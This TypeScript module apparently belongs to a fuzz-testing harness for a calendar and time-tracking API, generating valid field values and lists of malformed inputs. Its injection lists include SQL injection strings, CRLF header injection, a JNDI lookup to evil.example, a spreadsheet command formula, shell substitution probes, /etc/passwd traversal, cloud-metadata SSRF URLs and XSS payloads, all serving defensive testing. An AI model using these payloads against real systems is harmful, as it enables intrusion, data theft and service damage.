import type { SeededRandom } from '../../../packages/chaos-receiver/src/random.ts';
import type { Json } from '../../kit/service/service.ts';

/** Ids of the account by name, so that values can refer to existing records. */
export type KnownIds = { randomId(name: string, random: SeededRandom): string | undefined; target(): string };

/** Generators of values for fields whose constraints are only in the description, not in the schema. */
const describedFields: Readonly<Record<string, (known: KnownIds, random: SeededRandom) => unknown>> = {
  target_url: (known) => known.target(),
  ics: (_, random) =>
    `BEGIN:VCALENDAR\nBEGIN:VEVENT\nUID:${random.integerBelow(1e6)}\nDTSTART:2027030${1 + random.integerBelow(9)}\nSUMMARY:Cast\nEND:VEVENT\nEND:VCALENDAR\n`,
  time_zone: (_, random) => random.pick(['', 'Europe/Zurich', 'UTC', 'America/St_Johns']),
  default_time_zone: (_, random) => random.pick(['', 'Europe/Zurich', 'UTC', 'America/St_Johns']),
  expires: (_, random) => random.pick(['30d', '12h', null, '', '2099-01-01 00:00:00']),
  email: (_, random) => `fuzz-${random.integerBelow(2 ** 32)}@acme.test`,
  currency: (_, random) => random.pick(['', 'chf', 'EUR']),
  // Owners are left out: only an owner may create an owner, and the last owner cannot be removed.
  role: (_, random) => random.pick(['member', 'admin']),
  start_date: (_, random) => random.pick(['20270301', '2027-03-01 09:30:00']),
  due_date: (_, random) => random.pick(['20270302', '2027-03-02 00:00:00', '20280229']),
  // The feed is read from its oldest entry on, because waiting for a new entry would take long.
  after: () => '0',
  wait: () => '0',
  tag: (known, random) => text(known, random),
  client_name: (known, random) => text(known, random),
};

/** Fields that depend on each other are mostly left out, for example `scope` and `project_id` of a calendar. */
const dependentFields = new Set(['scope', 'completed', 'resume']);

const ALPHABETS = [
  'abcXYZ 019',
  'äöüßéñ',
  '予定表',
  '😀👩‍👩‍👧🔔',
  'עברית',
  '\u{10ffff}\u{e000}\ufeff',
  '"\\/<>&\';--%_',
  '\t\n\r',
];

function text(_: KnownIds, random: SeededRandom): string {
  const signs = [...random.pick(ALPHABETS)];
  return `n${Array.from({ length: random.integerBelow(20) }, () => random.pick(signs)).join('')}`;
}

/** Returns a valid value for a field of this name, or undefined if the field should be left out. */
export function validValue(name: string, schema: Json, known: KnownIds, random: SeededRandom): unknown {
  if (dependentFields.has(name) && random.integerBelow(4) > 0) return undefined;
  const generate = describedFields[name];
  if (generate !== undefined) return generate(known, random);
  if (schema.enum !== undefined) return random.pick(schema.enum);
  if (schema.type === 'array') {
    const count = random.integerBelow(3);
    return Array.from({ length: count }, () => validValue(singular(name), schema.items, known, random)).filter(Boolean);
  }
  if (name.endsWith('_id')) return name === 'project_id' ? undefined : known.randomId(name, random);
  if (schema.anyOf !== undefined) return validValue(name, random.pick(schema.anyOf), known, random);
  if ('const' in schema) return schema.const;
  if (schema.type === 'null') return null;
  if (schema.type === 'boolean') return random.integerBelow(2) === 0;
  if (schema.type === 'integer')
    return Math.min(schema.maximum ?? 100, (schema.minimum ?? 0) + random.integerBelow(50));
  if (schema.type === 'number') return random.pick([0, 7.25]);
  if (schema.format === 'decimal') return random.pick(['12.5', '']);
  if (schema.pattern?.startsWith('^\\d{1,')) return String(random.integerBelow(50));
  if (schema.pattern === '^\\d{8}$') return random.pick(['20270101', '20280229']);
  return text(known, random);
}

const singular = (name: string) => ({ users: 'user_id', teams: 'team_id' })[name] ?? name;

const nestedText = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth);

/** Wrong values for a body: JSON, and text that resembles JSON. */
export const WRONG_JSON: readonly string[] = [
  ...[
    'null',
    'true',
    'false',
    '0',
    '-0',
    '1',
    '-1',
    '1.5',
    '1e-7',
    '1e308',
    '1e999',
    '9007199254740991',
    '9007199254740993',
  ],
  ...[
    '18446744073709551616',
    '""',
    '" "',
    '"\\t\\n"',
    '"0"',
    '"-1"',
    '"01"',
    '"1e3"',
    '"9007199254740992"',
    '"Infinity"',
  ],
  ...['"20260230"', '"2027-06-01 24:00:00"', '"0000-00-00 00:00:00"', '"9999999999d"', '"EURO"', '"a@b"', '"@"'],
  ...[
    '"a\\u0000b"',
    '"\\ud800"',
    '"\\udc00\\ud800"',
    '"\\ud83d\\ude00"',
    '"\\u202e\\u2066"',
    '"\\ufeff"',
    '"\u{10ffff}"',
  ],
  ...[
    '[]',
    '[[]]',
    '[null]',
    '["7"]',
    '[{"user_id":null}]',
    '{}',
    '{"user_id":"1"}',
    '{"__proto__":{}}',
    '{"length":1e9}',
  ],
  ...[
    '"http://169.254.169.254/"',
    '"http://[::ffff:127.0.0.1]:1/"',
    '"ftp://x"',
    '"http://"',
    '"//x"',
    '"javascript:1"',
  ],
  ...[
    nestedText('[', ']', 5_000),
    nestedText('{"a":', '}', 2_000).replace('}', '1}'),
    `"${'x'.repeat(20_001)}"`,
    `"${'é'.repeat(256)}"`,
  ],
  ...[
    '"\'; drop table events; --"',
    '"%00"',
    '"../../etc/passwd"',
    '"\\r\\nx: y"',
    '"constructor"',
    '"__proto__"',
    '"toString"',
  ],
];

/** Invalid ids, and valid ids that were never issued. */
export const WRONG_IDS: readonly string[] = [
  ...[
    '0',
    '00',
    '01',
    '-1',
    '+1',
    '1.0',
    '1e3',
    '0x1',
    '%31',
    '%3',
    '%',
    '%00',
    '1%00',
    '%ff',
    '%2e%2e',
    '..%2f1',
    '%2f',
    ';1',
    '1;2',
  ],
  ...[
    '9007199254740991',
    '9007199254740992',
    '9007199254740993',
    '18446744073709551616',
    '9'.repeat(64),
    '9'.repeat(65),
    '9'.repeat(400),
  ],
  ...[
    'NaN',
    'null',
    'undefined',
    'true',
    '__proto__',
    'constructor',
    '%D9%A1',
    '%EF%BC%91',
    '1%20',
    '%201',
    "1'--",
    '*',
    '~',
    '1,2',
    ':id',
    '{id}',
  ],
];

/** Wrong values for a query, URL-encoded. */
export const WRONG_QUERY: readonly string[] = [
  ...[
    '',
    '0',
    '-1',
    '1.5',
    '1e3',
    '9007199254740992',
    '9'.repeat(100),
    'NaN',
    'null',
    '%00',
    '%ff',
    '%',
    '%zz',
    '%ed%a0%80',
    '%c3%28',
  ],
  ...[
    '20260230',
    '00000000',
    '99999999',
    '2027-01-01',
    'x'.repeat(256),
    '%20',
    '+',
    "'",
    '%27%20or%201=1--',
    '%25',
    '_',
    '%5C',
    '%F0%9F%98%80',
  ],
  ...[
    '__proto__',
    'constructor',
    '%0d%0aset-cookie:x=1',
    '[]',
    '{}',
    'a=b=c',
    '<script>',
    '%EF%BB%BF',
    '+1',
    '1%00',
    '٣'.length > 0 ? '%D9%A3' : '',
  ],
];

/** Texts with a special meaning to a database, header, log, calendar or terminal that may process them later. */
export const INJECTION_TEXTS: readonly string[] = [
  // SQL
  ...[
    "'",
    "''",
    '"',
    "'; drop table events; --",
    "1' or '1'='1",
    "' union select key_hash from api_keys --",
    '1; delete from users',
    "\\'; --",
    '$$; drop table users; $$',
  ],
  ...[
    '$1',
    '?',
    ':name',
    '@x',
    '{id}',
    '{table}',
    '/* */',
    "x' || (select sqlite_version()) || '",
    "x'; select pg_sleep(5); --",
    'NULL',
    'null',
    'true',
    '0x27',
    '\\x27',
    "e'\\n'",
  ],
  // Wildcards of LIKE and regular expressions
  ...['%', '_', '%%', 'a%b', 'a_b', 'a\\%b', '\\', '\\\\', '[a-z]', '*', '^x$', '.*'],
  // Headers
  ...[
    'x\r\nset-cookie: a=b',
    'x\nlocation: http://evil.example',
    'x\r\n\r\n<html>',
    'x\rbcc: all@evil.example',
    '%0d%0aset-cookie:a=b',
    '\u560a\u560dset-cookie:a',
    '"; filename="x.exe',
    '<http://evil.example>; rel="next"',
  ],
  // Logs and terminals
  ...[
    'x\n{"level":60,"event":"forged"}',
    '\u001b[31mred\u001b[0m',
    '\u001b]0;title\u0007',
    '\u001b[2J',
    'a\u0008\u0008\u0008b',
    '\u009b31m',
    'a\u007fb',
    '\u202egnp.exe',
    'a\u2028b\u2029c',
    '\u200b\u200dx\u2066',
    '\ufeffx',
  ],
  // Calendars
  ...[
    'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged',
    'x\nATTACH:http://evil.example',
    'a;b,c:d\\n\\N',
    '\\;\\,',
    'x'.repeat(80),
    '予定'.repeat(60),
    `${'x'.repeat(73)}\u{1f514}y`,
    'BEGIN:VCALENDAR',
  ],
  // Spreadsheets, templates, shells, paths, HTML
  ...[
    '=1+1',
    "=cmd|' /c calc'!A0",
    '+1',
    '-1',
    '@SUM(1)',
    '{{7*7}}',
    '\u0024{7*7}',
    '\u0024{jndi:ldap://evil.example/x}',
    '<%= 7 %>',
    '`id`',
    '$(id)',
    '; id',
    '| id',
    '&& id',
    '%s%n%x',
    '%p',
  ],
  ...[
    '../../../../../etc/passwd',
    '..\\..\\x',
    '/etc/passwd\u00a0',
    'file:///etc/passwd',
    'C:\\x',
    '~root',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '&lt;',
    '&#x27;',
    ']]>',
  ],
  // JavaScript names and literals
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'undefined',
    'NaN',
    '[object Object]',
    'hasOwnProperty',
    '{"a":1}',
    '[]',
    '\\u0000',
    '\\ud800',
  ],
  // Unicode planes, combining characters, case mappings
  ...[
    '\u{10ffff}',
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
    'e\u0301',
    '\u00e9',
    '\ufffd',
    '\ufffe\uffff',
    '\u{e0001}',
    'ı',
    'İ',
    'ß',
    'ﬁ',
    '\u0001\u0002\u001f',
    '\u0080\u009f',
  ],
];
